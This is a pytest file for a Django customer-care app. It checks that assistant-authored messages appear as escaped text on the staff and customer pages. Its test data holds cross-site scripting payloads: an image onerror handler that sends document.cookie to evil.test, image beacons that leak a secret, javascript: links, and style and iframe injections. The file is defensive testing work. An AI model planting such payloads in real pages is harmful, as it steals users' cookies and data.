"""A13: what a machine says is text, to the customer and to us (Lenovo "Lena", 2025)."""

import pytest
from django.test import Client
from django.urls import reverse

from makegood.adapters.email.tests.make import mail
from makegood.care.cases.models import Case
from makegood.care.cases.queries import conversations_of
from makegood.contact.conversations.models import Message
from makegood.contact.conversations.operations import NewMessage, file_many
from makegood.loops.case_to_confirmation import status_link

HOSTILE = {
    "html": '<img src=x onerror="fetch(`//evil.test/`+document.cookie)"><script>canary=1</script>',
    "picture": "![p](https://evil.test/x.png?c=secret) <img src='https://evil.test/y.png'>",
    "link": "[click](javascript:alert(1)) <a href='javascript:alert(2)'>here</a>",
    "style": "<style>@import 'https://evil.test/z.css'</style><iframe src='//evil.test'></iframe>",
}


@pytest.mark.parametrize("form", HOSTILE)
def test_words_of_a_machine_are_shown_as_they_are(home, take, client, form):
    take(mail())
    case = Case.objects.get()
    [talk] = conversations_of(case)
    said = NewMessage(
        conversation=talk, author=Message.Author.ASSISTANT, text=HOSTILE[form], case=case.pk
    )
    file_many([said])
    staff = Client()
    staff.force_login(home.lead)
    pages = [
        staff.get(reverse("web:case", args=[case.pk])).content.decode(),
        client.get("/s/" + status_link(case).split("/s/")[1]).content.decode(),
    ]
    for page in pages:
        assert "evil.test" in page or "click" in page  # it is there, as text
        for tag in ("<img src=x", "<script>canary", "<img src='https://evil", "<style>@import"):
            assert tag not in page
        assert 'href="javascript:' not in page
        assert "<iframe src='//evil" not in page
